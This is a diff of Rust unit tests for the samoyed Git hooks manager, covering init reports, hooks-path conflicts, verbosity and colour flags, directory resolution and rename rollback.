-        let result2 = init_samoyed(".samoyed");
-        assert!(result2.is_ok());
+        env::set_current_dir(original_dir).unwrap();
 
-        // Verify structure still exists
-        let samoyed_dir = git_repo.path().join(".samoyed");
-        assert!(samoyed_dir.exists());
+        assert!(released.is_ok(), "{:?}", released);
+        let err = held.unwrap_err();
+        assert!(err.starts_with(ERR_FAILED_SET_HOOKS_PATH), "{err}");
+        assert!(err.contains(GIT_CONFIG_LOCK_MESSAGE), "{err}");
+    }
+
+    /// Test InitReport JSON for a default install and a bypassed run
+    #[test]
+    fn test_init_report_to_json() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        let options = InitOptions {
+            hooks: Some(vec!["pre-commit".to_string()]),
+            ..InitOptions::default()
+        };
+        let report = init_samoyed(".samoyed", &options).unwrap();
+        let json = report.to_json();
+        assert!(json.contains(r#""hooks_path": ".samoyed/_""#), "{json}");
+        assert!(json.contains(r#""hooks": ["pre-commit"]"#), "{json}");
+        assert!(json.contains(r#""bypassed": false"#), "{json}");
+        assert!(json.contains(".samoyed\""), "{json}");
+
+        let bypassed = InitReport {
+            bypassed: true,
+            ..InitReport::default()
+        };
+        assert_eq!(
+            bypassed.to_json(),
+            "{\n  \"samoyed_dir\": null,\n  \"hooks_path\": null,\n  \"hooks\": [],\n  \"bypassed\": true\n}"
+        );
 
         env::set_current_dir(original_dir).unwrap();
     }
 
-    /// Test set_git_hooks_path function
+    /// Test the init --summary text for a full install, a subset and a bypassed run
     #[test]
-    fn test_set_git_hooks_path() {
-        let git_repo = create_test_git_repo();
-        let original_dir = env::current_dir().unwrap();
-        assert!(
-            git_repo.path().exists(),
-            "Git repo directory should exist: {:?}",
-            git_repo.path()
-        );
-        env::set_current_dir(git_repo.path()).unwrap_or_else(|e| {
-            panic!(
-                "Failed to change to git repo directory {:?}: {}",
-                git_repo.path(),
-                e
+    fn test_init_report_summary() {
+        let report = InitReport {
+            hooks_path: Some(".samoyed/_".to_string()),
+            hooks: GIT_HOOKS.to_vec(),
+            ..InitReport::default()
+        };
+        assert_eq!(
+            report.summary().unwrap(),
+            format!(
+                "Installed {} hooks (core.hooksPath = .samoyed/_)\nNext: edit .samoyed/pre-commit, then try it with `.samoyed/_/pre-commit`",
+                GIT_HOOKS.len()
             )
-        });
+        );
 
-        let samoyed_dir = git_repo.path().join(".samoyed");
-        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+        let subset = InitReport {
+            hooks_path: Some("tools/hooks/_".to_string()),
+            hooks: vec!["commit-msg"],
+            ..InitReport::default()
+        };
+        let summary = subset.summary().unwrap();
+        assert!(summary.starts_with("Installed 1 hook "), "{summary}");
+        assert!(summary.contains("edit tools/hooks/commit-msg"), "{summary}");
+
+        let bypassed = InitReport {
+            bypassed: true,
+            ..InitReport::default()
+        };
+        assert_eq!(bypassed.summary(), None);
+    }
 
-        let result = set_git_hooks_path(&samoyed_dir);
-        assert!(result.is_ok());
+    /// Test init refuses to overwrite a foreign core.hooksPath without --force
+    #[test]
+    fn test_init_samoyed_hooks_path_conflict() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
 
-        // Verify git config was set
-        let output = StdCommand::new("git")
-            .args(["config", "core.hooksPath"])
-            .current_dir(git_repo.path())
+        StdCommand::new("git")
+            .args(["config", "core.hooksPath", ".githooks"])
             .output()
             .unwrap();
 
-        assert!(output.status.success());
-        let hooks_path = String::from_utf8_lossy(&output.stdout).trim().to_string();
-        assert!(!hooks_path.is_empty());
+        let err = init_samoyed(".samoyed", &InitOptions::default()).unwrap_err();
+        assert!(err.to_string().contains("'.githooks'"), "{err}");
+        assert!(
+            matches!(&err, InitError::HooksPathConflict { hooks_path } if hooks_path == ".githooks"),
+            "{err}"
+        );
+        assert!(!git_repo.path().join(".samoyed").exists());
+        assert_eq!(
+            read_hooks_path(git_repo.path()).as_deref(),
+            Some(".githooks")
+        );
 
-        let hooks_path_buf = PathBuf::from(&hooks_path);
-        let expected_hooks = samoyed_dir.join("_");
-        let hooks_canonical = canonicalize_allowing_nonexistent(&hooks_path_buf)
-            .expect("failed to canonicalize hooks path");
-        let expected_canonical = canonicalize_allowing_nonexistent(&expected_hooks)
-            .expect("failed to canonicalize expected hooks path");
-        assert_eq!(hooks_canonical, expected_canonical);
+        let options = InitOptions {
+            force: true,
+            ..InitOptions::default()
+        };
+        init_samoyed(".samoyed", &options).unwrap();
+        assert_eq!(
+            read_hooks_path(git_repo.path()).as_deref(),
+            Some(".samoyed/_")
+        );
+
+        // Moving between Samoyed directories is not a conflict
+        init_samoyed(".hooks", &InitOptions::default()).unwrap();
+        assert_eq!(
+            read_hooks_path(git_repo.path()).as_deref(),
+            Some(".hooks/_")
+        );
 
         env::set_current_dir(original_dir).unwrap();
     }
 
-    /// Test get_git_root in an actual git repository
+    /// Test --force takes over core.hooksPath but only --reset-samples replaces pre-commit
     #[test]
-    fn test_get_git_root_in_repo() {
+    fn test_init_samoyed_force_keeps_pre_commit() {
+        let cli = Cli::parse_from(["samoyed", "init", "--force"]);
+        match cli.command {
+            Some(Commands::Init {
+                force,
+                reset_samples,
+                ..
+            }) => {
+                assert!(force);
+                assert!(!reset_samples);
+            }
+            _ => panic!("Expected Init command"),
+        }
+        let conflict = Cli::try_parse_from(["samoyed", "init", "--reset-samples", "--no-samples"]);
+        assert!(conflict.is_err());
+
         let git_repo = create_test_git_repo();
         let original_dir = env::current_dir().unwrap();
-
-        // Test from root
         env::set_current_dir(git_repo.path()).unwrap();
-        let result = get_git_root();
-        assert!(result.is_ok());
-        let git_root = result.unwrap();
-        // Canonicalize both paths for comparison
-        assert_eq!(
-            git_root.canonicalize().unwrap(),
-            git_repo.path().canonicalize().unwrap()
-        );
 
-        // Test from subdirectory
-        let subdir = git_repo.path().join("subdir");
-        fs::create_dir(&subdir).unwrap();
-        env::set_current_dir(&subdir).unwrap();
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        fs::create_dir_all(&samoyed_dir).unwrap();
+        let custom = "#!/usr/bin/env sh\ncargo test\n";
+        fs::write(samoyed_dir.join("pre-commit"), custom).unwrap();
+        StdCommand::new("git")
+            .args(["config", "core.hooksPath", ".githooks"])
+            .output()
+            .unwrap();
 
-        let result = get_git_root();
-        assert!(result.is_ok());
-        let git_root = result.unwrap();
-        assert_eq!(
-            git_root.canonicalize().unwrap(),
-            git_repo.path().canonicalize().unwrap()
+        let forced = init_samoyed(
+            ".samoyed",
+            &InitOptions {
+                force: true,
+                ..InitOptions::default()
+            },
+        );
+        let after_force = fs::read_to_string(samoyed_dir.join("pre-commit")).unwrap();
+        let reset = init_samoyed(
+            ".samoyed",
+            &InitOptions {
+                overwrite_samples: true,
+                ..InitOptions::default()
+            },
         );
 
         env::set_current_dir(original_dir).unwrap();
+
+        assert!(forced.is_ok(), "{forced:?}");
+        assert_eq!(
+            read_hooks_path(git_repo.path()).as_deref(),
+            Some(".samoyed/_")
+        );
+        assert_eq!(after_force, custom);
+        assert!(reset.is_ok(), "{reset:?}");
+        assert_eq!(
+            fs::read_to_string(samoyed_dir.join("pre-commit")).unwrap(),
+            with_shebang(SAMPLE_PRE_COMMIT_CONTENT, DEFAULT_HOOK_SHELL)
+        );
     }
 
-    /// Test validate_samoyed_dir with relative path containing ..
+    /// Test log levels against each verbosity
     #[test]
-    fn test_validate_samoyed_dir_parent_relative() {
-        let temp_dir = TempDir::new().unwrap();
-        let git_root = temp_dir.path();
+    fn test_log_level_is_enabled() {
+        assert!(LogLevel::Error.is_enabled(Verbosity::Quiet));
+        assert!(!LogLevel::Warn.is_enabled(Verbosity::Quiet));
+        assert!(!LogLevel::Info.is_enabled(Verbosity::Quiet));
+        assert!(LogLevel::Warn.is_enabled(Verbosity::Normal));
+        assert!(LogLevel::Info.is_enabled(Verbosity::Normal));
+        assert!(!LogLevel::Debug.is_enabled(Verbosity::Normal));
+        assert!(LogLevel::Debug.is_enabled(Verbosity::Verbose));
+    }
 
-        // Create subdirectory
-        let subdir = git_root.join("subdir");
-        fs::create_dir(&subdir).unwrap();
+    /// Test ANSI coloring honors the terminal check and NO_COLOR
+    #[test]
+    fn test_use_color_and_paint() {
+        unsafe {
+            env::remove_var("NO_COLOR");
+        }
+        assert!(use_color(true));
+        assert!(!use_color(false));
 
-        // Test with path that goes up and back down
-        let result = validate_samoyed_dir(git_root, &subdir, "../.samoyed");
-        assert!(result.is_ok());
+        unsafe {
+            env::set_var("NO_COLOR", "1");
+        }
+        assert!(!use_color(true));
+        unsafe {
+            env::remove_var("NO_COLOR");
+        }
 
-        // The resulting path should be inside git root
-        let path = result.unwrap();
-        let git_root_canonical = git_root.canonicalize().unwrap();
-        assert!(path.starts_with(&git_root_canonical));
+        assert_eq!(
+            paint(LogLevel::Warn, "careful", true),
+            "\x1b[33mcareful\x1b[0m"
+        );
+        assert_eq!(paint(LogLevel::Warn, "careful", false), "careful");
+        assert_eq!(paint(LogLevel::Info, "hello", true), "hello");
     }
 
-    /// Test that main function returns success exit code
+    /// Test parsing the global --quiet and --verbose flags
     #[test]
-    fn test_main_no_command() {
-        // This will trigger the help display
-        let args = vec!["samoyed"];
-        let result = std::panic::catch_unwind(|| Cli::try_parse_from(args));
+    fn test_cli_parsing_verbosity() {
+        let cli = Cli::parse_from(["samoyed", "init", "--quiet"]);
+        assert!(cli.quiet);
+        assert!(!cli.verbose);
 
-        // When no command is given, clap returns an error (which shows help)
-        // but our main function still returns SUCCESS
-        assert!(result.is_ok());
+        let cli = Cli::parse_from(["samoyed", "--verbose", "uninstall"]);
+        assert!(cli.verbose);
+
+        assert!(Cli::try_parse_from(["samoyed", "--quiet", "--verbose", "init"]).is_err());
+
+        let cli = Cli::parse_from(["samoyed", "init", "--cwd", "/srv/repo"]);
+        assert_eq!(cli.cwd, Some(PathBuf::from("/srv/repo")));
     }
 
-    /// Test Windows-specific path normalization in set_git_hooks_path
-    /// This test only runs on Windows to verify backslash to forward slash conversion
-    #[cfg(windows)]
+    /// Test SAMOYED_DIR sits between the CLI dirname and the default
     #[test]
-    fn test_set_git_hooks_path_windows_normalization() {
+    fn test_resolve_dirname() {
         let git_repo = create_test_git_repo();
         let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        unsafe {
+            env::set_var("SAMOYED_DIR", "");
+        }
+        let empty = resolve_dirname(None);
+        unsafe {
+            env::set_var("SAMOYED_DIR", "tools/hooks");
+        }
+        let from_env = resolve_dirname(None);
+        let from_cli = resolve_dirname(Some(".hooks".to_string()));
+        let installed = init_samoyed(&from_env, &InitOptions::default());
+        unsafe {
+            env::set_var("SAMOYED_DIR", "../outside");
+        }
+        let outside = init_samoyed(&resolve_dirname(None), &InitOptions::default());
+        unsafe {
+            env::remove_var("SAMOYED_DIR");
+        }
+        let unset = resolve_dirname(None);
+
+        env::set_current_dir(original_dir).unwrap();
+
+        assert_eq!(empty, DEFAULT_SAMOYED_DIR);
+        assert_eq!(from_env, "tools/hooks");
+        assert_eq!(from_cli, ".hooks");
+        assert_eq!(unset, DEFAULT_SAMOYED_DIR);
+        assert_eq!(
+            installed.unwrap().hooks_path.as_deref(),
+            Some("tools/hooks/_")
+        );
         assert!(
-            git_repo.path().exists(),
-            "Git repo directory should exist: {:?}",
-            git_repo.path()
+            outside
+                .unwrap_err()
+                .to_string()
+                .starts_with(ERR_OUTSIDE_GIT_REPO)
         );
-        env::set_current_dir(git_repo.path()).unwrap_or_else(|e| {
-            panic!(
-                "Failed to change to git repo directory {:?}: {}",
-                git_repo.path(),
-                e
-            )
-        });
+    }
 
-        // Create a path that would naturally have backslashes on Windows
-        let samoyed_dir = git_repo.path().join(".samoyed");
-        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+    /// Test --version stays short unless --verbose is given
+    #[test]
+    fn test_version_text() {
+        let cli = Cli::parse_from(["samoyed", "--version", "--verbose"]);
+        assert!(cli.version);
+        assert!(cli.verbose);
+
+        let short = version_text(false);
+        assert_eq!(short, format!("samoyed {}", env!("CARGO_PKG_VERSION")));
+
+        let long = version_text(true);
+        assert!(long.starts_with(&short));
+        for key in ["commit: ", "built: ", "target: "] {
+            assert!(long.contains(key), "missing {:?} in {}", key, long);
+        }
+    }
 
-        let result = set_git_hooks_path(&samoyed_dir);
-        assert!(result.is_ok());
+    /// Test --list-hooks describes every supported hook
+    #[test]
+    fn test_supported_hooks_text() {
+        let cli = Cli::parse_from(["samoyed", "--list-hooks"]);
+        assert!(cli.list_hooks);
+        assert!(cli.command.is_none());
+
+        let text = supported_hooks_text();
+        let lines: Vec<&str> = text.lines().collect();
+        assert_eq!(lines.len(), GIT_HOOKS.len());
+        for (line, hook) in lines.iter().zip(GIT_HOOKS) {
+            assert!(line.starts_with(hook), "{line}");
+            assert!(line.ends_with(hook_description(hook)), "{line}");
+            assert!(!hook_description(hook).is_empty(), "{hook}");
+        }
+        assert!(text.contains("pre-commit          Checks the staged changes"));
+    }
 
-        // Verify git config was set with Unix-style separators
-        let output = StdCommand::new("git")
-            .args(["config", "core.hooksPath"])
-            .current_dir(git_repo.path())
-            .output()
-            .unwrap();
+    /// Test generated files are writable and executable on Windows
+    #[cfg(windows)]
+    #[test]
+    fn test_generated_files_writable_on_windows() {
+        let temp_dir = TempDir::new().unwrap();
+        let samoyed_dir = temp_dir.path().join(".samoyed");
+        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
 
-        assert!(output.status.success());
-        let hooks_path = String::from_utf8_lossy(&output.stdout).trim().to_string();
+        copy_wrapper_script(&samoyed_dir, false).unwrap();
+        create_hook_scripts(&samoyed_dir, GIT_HOOKS, DEFAULT_HOOK_SHELL, false).unwrap();
+        create_sample_pre_commit(&samoyed_dir, DEFAULT_HOOK_SHELL, false, false).unwrap();
 
-        // On Windows, the path should be normalized to use forward slashes
-        // and should be relative (not contain drive letters or backslashes)
-        assert!(
-            !hooks_path.contains('\\'),
-            "Path should not contain backslashes: {}",
-            hooks_path
-        );
-        assert!(
-            !hooks_path.contains("C:"),
-            "Path should be relative, not absolute: {}",
-            hooks_path
-        );
+        let wrapper_dir = samoyed_dir.join("_");
+        let generated = std::iter::once(wrapper_dir.join("samoyed"))
+            .chain(
+                GIT_HOOKS
+                    .iter()
+                    .map(|hook_name| wrapper_dir.join(hook_name)),
+            )
+            .chain(std::iter::once(samoyed_dir.join("pre-commit")));
+        for path in generated {
+            let permissions = fs::metadata(&path).unwrap().permissions();
+            assert!(!permissions.readonly(), "{} is read-only", path.display());
+            assert!(is_executable(&path), "{} is not executable", path.display());
+        }
+    }
 
-        env::set_current_dir(original_dir).unwrap();
+    /// Test parsing hooks rename
+    #[test]
+    fn test_cli_parsing_hooks_rename() {
+        let cli = Cli::parse_from(["samoyed", "hooks", "rename", ".hooks", "--from", ".old"]);
+        match cli.command {
+            Some(Commands::Hooks {
+                command: HooksCommands::Rename { new_dirname, from },
+            }) => {
+                assert_eq!(new_dirname, ".hooks");
+                assert_eq!(from, Some(".old".to_string()));
+            }
+            _ => panic!("Expected Hooks Rename command"),
+        }
     }
 
-    /// Test cross-platform path normalization behavior
-    /// This test runs on all platforms to verify consistent behavior
+    /// Test rename_samoyed moves scripts and updates core.hooksPath
     #[test]
-    fn test_set_git_hooks_path_cross_platform() {
+    fn test_rename_samoyed() {
         let git_repo = create_test_git_repo();
         let original_dir = env::current_dir().unwrap();
-        assert!(
-            git_repo.path().exists(),
-            "Git repo directory should exist: {:?}",
-            git_repo.path()
-        );
-        env::set_current_dir(git_repo.path()).unwrap_or_else(|e| {
-            panic!(
-                "Failed to change to git repo directory {:?}: {}",
-                git_repo.path(),
-                e
-            )
-        });
+        env::set_current_dir(git_repo.path()).unwrap();
 
-        let samoyed_dir = git_repo.path().join(".samoyed");
-        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+        init_samoyed(".samoyed", &InitOptions::default()).unwrap();
+        fs::write(git_repo.path().join(".samoyed/pre-push"), "cargo test\n").unwrap();
 
-        let result = set_git_hooks_path(&samoyed_dir);
-        assert!(result.is_ok());
+        rename_samoyed(".samoyed", "tools/hooks").unwrap();
 
-        // Verify git config was set
-        let output = StdCommand::new("git")
-            .args(["config", "core.hooksPath"])
-            .current_dir(git_repo.path())
-            .output()
-            .unwrap();
+        let new_dir = git_repo.path().join("tools/hooks");
+        assert!(!git_repo.path().join(".samoyed").exists());
+        assert_eq!(
+            fs::read_to_string(new_dir.join("pre-push")).unwrap(),
+            "cargo test\n"
+        );
+        assert!(new_dir.join("_/samoyed").is_file());
+        assert_eq!(
+            read_hooks_path(git_repo.path()).as_deref(),
+            Some("tools/hooks/_")
+        );
 
-        assert!(output.status.success());
-        let hooks_path = String::from_utf8_lossy(&output.stdout).trim().to_string();
+        // The target must not exist, and the source must
+        fs::create_dir_all(git_repo.path().join(".taken")).unwrap();
+        let err = rename_samoyed("tools/hooks", ".taken").unwrap_err();
+        assert!(err.starts_with(ERR_RENAME_TARGET_EXISTS), "{err}");
+        let err = rename_samoyed(".samoyed", ".hooks").unwrap_err();
+        assert!(err.starts_with(ERR_RENAME_SOURCE_MISSING), "{err}");
+        let err = rename_samoyed("tools/hooks", "tools/hooks/nested").unwrap_err();
+        assert_eq!(err, ERR_RENAME_INVALID_TARGET);
 
-        // The path should be relative regardless of platform
-        assert!(!hooks_path.is_empty(), "Hooks path should not be empty");
+        env::set_current_dir(original_dir).unwrap();
+    }
 
-        // Should not contain absolute path indicators
-        #[cfg(windows)]
-        assert!(
-            !hooks_path.contains(":\\"),
-            "Should not contain Windows drive letter: {}",
-            hooks_path
-        );
+    /// Test rename_samoyed moves the directory back when core.hooksPath cannot be updated
+    #[test]
+    fn test_rename_samoyed_rolls_back() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
 
-        #[cfg(unix)]
-        assert!(
-            !hooks_path.starts_with('/'),
-            "Should not be absolute Unix path: {}",
-            hooks_path
-        );
+        init_samoyed(".samoyed", &InitOptions::default()).unwrap();
 
-        // Should end with our expected relative path structure
-        assert!(
-            hooks_path.ends_with("_") || hooks_path.ends_with("_/"),
-            "Should end with underscore directory: {}",
-            hooks_path
+        // Shadow core.hooksPath so updating it fails after the move
+        unsafe {
+            env::set_var("GIT_CONFIG_COUNT", "1");
+            env::set_var("GIT_CONFIG_KEY_0", "core.hooksPath");
+            env::set_var("GIT_CONFIG_VALUE_0", ".samoyed/_");
+        }
+        let result = rename_samoyed(".samoyed", ".hooks");
+        unsafe {
+            env::remove_var("GIT_CONFIG_COUNT");
+            env::remove_var("GIT_CONFIG_KEY_0");
+            env::remove_var("GIT_CONFIG_VALUE_0");
+        }
+
+        let err = result.unwrap_err();
+        assert!(err.contains(MSG_RENAME_ROLLED_BACK), "{err}");
+        assert!(git_repo.path().join(".samoyed/_/samoyed").is_file());
+        assert!(!git_repo.path().join(".hooks").exists());
+        assert_eq!(
+            read_hooks_path(git_repo.path()).as_deref(),
+            Some(".samoyed/_")
         );
 
         env::set_current_dir(original_dir).unwrap();